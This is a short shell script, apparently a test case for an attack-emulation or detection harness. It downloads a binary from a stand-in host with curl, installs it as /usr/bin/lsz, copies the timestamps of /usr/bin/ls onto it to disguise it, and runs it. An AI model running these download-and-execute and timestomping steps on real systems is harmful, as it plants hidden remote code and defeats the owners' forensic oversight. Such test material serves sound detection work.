#!/bin/sh
. /opt/case/case.sh

curl -s http://203.0.113.10/programs/marker -o /usr/bin/lsz
chmod 755 /usr/bin/lsz
python3 -c '
import os
about = os.stat("/usr/bin/ls")
os.utime("/usr/bin/lsz", ns=(about.st_atime_ns, about.st_mtime_ns))'
test "$(stat -c %Y /usr/bin/lsz)" = "$(stat -c %Y /usr/bin/ls)"
/usr/bin/lsz
took_place
